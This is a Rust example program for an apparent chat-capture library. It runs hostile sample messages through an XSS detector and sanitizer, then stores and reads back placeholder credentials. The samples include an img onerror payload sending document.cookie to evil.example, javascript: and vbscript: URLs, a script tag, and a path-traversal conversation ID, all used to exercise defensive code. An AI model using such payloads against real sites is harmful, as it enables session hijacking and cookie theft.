//! Capture pipeline walkthrough.
//!
//! Run with: cargo run --example capture_demo -- [--store path/to/store.json] [--profile display]
//!
//! Sanitizes a few hostile chat messages, stores demo credentials encrypted
//! and reads them back through the session key cache.

use std::path::PathBuf;
use std::sync::Arc;

use chatvault::{
    ChatVault, Config, Credentials, IdleState, JsonFileStore, RawMessage, SanitizationProfile,
};
use serde_json::json;
use tracing_subscriber::EnvFilter;

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    tracing_subscriber::fmt()
        .with_env_filter(EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new("info")))
        .init();

    let args: Vec<String> = std::env::args().collect();
    let mut store_path = std::env::temp_dir().join("chatvault-demo.json");
    let mut profile = SanitizationProfile::Display;

    let mut i = 1;
    while i < args.len() {
        match args[i].as_str() {
            "--store" | "-s" => {
                i += 1;
                if let Some(path) = args.get(i) {
                    store_path = PathBuf::from(path);
                }
            }
            "--profile" | "-p" => {
                i += 1;
                if let Some(name) = args.get(i) {
                    profile = name.parse()?;
                }
            }
            other => anyhow::bail!("unknown argument: {other}"),
        }
        i += 1;
    }

    let vault = ChatVault::builder()
        .with_config(Config::default())
        .with_store(Arc::new(JsonFileStore::new(&store_path)))
        .build()
        .await?;

    println!("Store: {}", store_path.display());
    println!();

    let samples = [
        "Here is the fix: <code>let x = 1;</code>",
        "<img src=x onerror=\"fetch('//evil.example?c='+document.cookie)\">Looks harmless",
        "<a href=\"javascript:alert(1)\" class=\"highlight\">click</a> me",
        "I like JavaScript programming",
    ];
    for sample in samples {
        println!("input:    {sample}");
        println!("xss:      {}", vault.sanitizer().detect_xss(sample));
        println!("{:<9} {}", format!("{profile}:"), vault.sanitizer().sanitize(sample, profile));
        println!();
    }

    let captured = vault.capture_batch(&json!([
        {
            "role": "assistant",
            "content": "<p>Answer<script>steal()</script></p>",
            "timestamp": "2024-05-01T09:30:00Z",
            "url": "https://claude.ai/chat/abc",
            "site": "claude",
            "conversationId": "abc/../123"
        },
        { "role": "user", "url": "vbscript:msgbox(1)" }
    ]));
    println!("{}", serde_json::to_string_pretty(&captured)?);
    println!();

    vault
        .update_credentials(&Credentials::new(
            "https://demo.supabase.co",
            "demo.0123456789abcdefghij",
        ))
        .await?;
    println!("session: {:?}", vault.session().state());

    vault.notify_idle_state(IdleState::Locked);
    println!("after lock: {:?}", vault.session().state());

    if let Some(credentials) = vault.credentials().await? {
        println!("recovered credentials for {}", credentials.endpoint_url);
    }

    println!("security events recorded: {}", vault.events().len());
    vault.close().await?;
    Ok(())
}
